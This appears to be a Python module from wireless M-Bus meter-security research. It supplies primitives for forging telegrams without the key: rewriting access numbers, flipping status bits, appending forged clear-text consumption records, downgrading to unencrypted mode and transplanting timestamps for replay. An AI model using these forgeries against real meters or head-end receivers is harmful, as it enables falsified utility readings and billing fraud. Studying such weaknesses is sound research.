"""What can be changed in a telegram without its key. No attack by itself; the attacks that forge use these.

Everything here follows from two facts. In modes 0 and 5 nothing authenticates a telegram: header bytes can be set at
will, in mode 5 at the price of garbling what the changed IV touches; bytes after the N encrypted blocks are in clear.
In mode 7 the CMAC covers everything from the transport layer's CI on, so every change here breaks it.
"""

from __future__ import annotations

from sim.clock import Calendar
from wmbus.dates import decode_f, encode_f
from wmbus.errors import BadTelegram
from wmbus.telegram import Telegram, parse

HCA_RECORD = bytes.fromhex("036e")  # current units, 24-bit integer
FIRST_BLOCK_TAIL = {"VIP": 4}
"""Bytes of a record that the first encrypted block of a maker's telegram leaves open; the next clear bytes complete
it (known from published telegrams of that type)."""


def header_offsets(telegram: Telegram) -> tuple[int, int, int]:
    """Places of ACC, STS and CFG in the frame. Raises ValueError when it has no such header."""
    transport = telegram.transport
    if transport is None or transport.acc is None:
        raise ValueError("its transport layer has no access number")
    acc = transport.offset + (1 if transport.address is None else 9)
    return acc, acc + 1, acc + 2


def access_number(frame: bytes) -> int:
    """The transport layer's access number; the link layer's when there is none."""
    return parse(frame).acc or 0


def with_access_number(frame: bytes, acc: int) -> bytes:
    """The same telegram under another access number (in the extended link layer too, when there is one)."""
    telegram = parse(frame)
    forged = bytearray(frame)
    forged[header_offsets(telegram)[0]] = acc
    if telegram.ell is not None:
        forged[12] = acc  # L C M2 ID4 V T | CI CC ACC
    return bytes(forged)


def with_status(frame: bytes, flip: int) -> bytes:
    """The same telegram with bits of its status byte turned over."""
    forged = bytearray(frame)
    forged[header_offsets(parse(frame))[1]] ^= flip
    return bytes(forged)


def with_units(frame: bytes, units: int, maker: str) -> bytes:
    """Mode 5: keep the first encrypted block, cut the others, append current units in clear (N becomes 1). Mode 0:
    append the record. Other modes: the same surgery, for a receiver that fails open."""
    telegram = parse(frame)
    cfg = header_offsets(telegram)[2]
    head, payload = frame[: telegram.payload_offset], telegram.payload
    record = HCA_RECORD + units.to_bytes(3, "little")
    forged = bytearray(head)
    if telegram.mode == 0:
        body = payload + record
    else:
        forged[cfg] = (forged[cfg] & 0x0F) | 0x10
        body = payload[:16] + b"0" * FIRST_BLOCK_TAIL.get(maker, 0) + record
    forged += body
    forged[0] = len(forged) - 1
    return bytes(forged)


def in_clear(frame: bytes, units: int) -> bytes:
    """A downgrade: the same meter, no encryption announced, no MAC, just a record in clear (short header, mode 0)."""
    telegram = parse(frame)
    acc = access_number(frame)
    body = bytearray(frame[:10]) + bytes((0x7A, acc, 0, 0, 0)) + HCA_RECORD + units.to_bytes(3, "little")
    body[2:10] = telegram.address.wire()
    body[0] = len(body) - 1
    return bytes(body)


def with_clock_of(old: bytes, recent: bytes, *, later_minutes: int) -> bytes:
    """Clear telegrams only: the old contents under the recent telegram's date-time, moved on. Returns `old` as it is
    when neither carries a date-time (046D)."""
    marker = bytes.fromhex("046d")
    try:
        at = old.index(marker, parse(old).payload_offset) + 2
        now = decode_f(recent[recent.index(marker, parse(recent).payload_offset) + 2 :][:4])
    except (ValueError, BadTelegram):
        return old
    if now is None:
        return old
    moved = Calendar(now).at(later_minutes * 60 * 1_000_000_000).replace(tzinfo=None)
    return old[:at] + encode_f(moved) + old[at + 4 :]
